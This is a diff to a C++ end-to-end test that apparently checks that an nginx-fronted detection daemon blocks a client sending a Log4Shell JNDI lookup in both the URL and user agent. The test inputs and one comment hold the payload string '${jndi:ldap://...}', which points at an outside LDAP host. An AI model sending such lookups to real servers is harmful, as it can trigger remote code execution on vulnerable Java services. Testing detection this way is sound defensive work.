@@ -8,7 +8,8 @@
 // ("/.%2565nv": nginx looks for a file named ".%65nv") probed nothing and is not.
 // What a page can make a visitor's browser send (a URL, a referer) is answered with a managed
 // challenge, through an access rule: a forum post embedding <img src="/?q=${jndi:...}"> must not
-// ban its readers. A payload in the user agent, which no page can set, is blocked (the IP list).
+// ban its readers. A payload in the user agent, which no page can set, is blocked (the IP list),
+// also when the same line holds it in the URL too: the block must not wait behind the challenge.
 #include <unistd.h>
 
 #include <cstdio>
@@ -43,6 +44,7 @@ constexpr char kScanner[] = "198.51.100.77";
 constexpr char kDoubleEncoder[] = "198.51.100.78";
 constexpr char kVisitor[] = "198.51.100.79";        // a browser made to send a payload
 constexpr char kAgentAttacker[] = "198.51.100.80";  // a payload in its user agent
+constexpr char kBothAttacker[] = "198.51.100.81";   // the payload in its URL and user agent
 constexpr char kChrome[] =
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/124.0 Safari/537.36";
@@ -158,16 +160,22 @@ TEST(NginxE2eTest, EncodedLettersDoNotHideAScannerEncodedTwiceTheyProbeNothing) 
                          "https://forum.example/t/123")
                    .empty());
   EXPECT_FALSE(nginx.Get("/", kAgentAttacker, "${jndi:ldap://192.0.2.66:1389/a}").empty());
+  // And one with the lookup in both: web-log4shell and web-log4shell-agent match the same line,
+  // and the block must come.
+  EXPECT_FALSE(nginx.Get("/?q=${jndi:ldap://192.0.2.66:1389/a}", kBothAttacker,
+                         "${jndi:ldap://192.0.2.66:1389/a}")
+                   .empty());
 
   // The scanner (web-sensitive-file-probe) and the visitor (web-log4shell) get a managed
   // challenge through an access rule; the user-agent payload (web-log4shell-agent) a block on
-  // the edge's IP list.
+  // the edge's IP list, also for the client with the payload in both places.
   std::map<std::string, std::string> modes;
   const bool decided = WaitFor(
       [&] {
         modes = AccessRuleModes(**cf);
         return modes.count(kScanner) == 1 && modes.count(kVisitor) == 1 &&
                EmulatorListedValues(**cf).count(kAgentAttacker) == 1 &&
+               EmulatorListedValues(**cf).count(kBothAttacker) == 1 &&
                ActionsPending(**daemon) == 0;
       },
       absl::Seconds(60));
@@ -182,7 +190,7 @@ TEST(NginxE2eTest, EncodedLettersDoNotHideAScannerEncodedTwiceTheyProbeNothing) 
   palisade::v1::ListDecisionsResponse response;
   ASSERT_TRUE(palisade::v1::Decisions::NewStub(channel)->List(&ctx, request, &response).ok());
   EXPECT_EQ(response.decisions_size(), 0) << response.DebugString();
-  EXPECT_EQ(EmulatorListedValues(**cf), std::set<std::string>{kAgentAttacker});
+  EXPECT_EQ(EmulatorListedValues(**cf), (std::set<std::string>{kAgentAttacker, kBothAttacker}));
 }
 
 }  // namespace
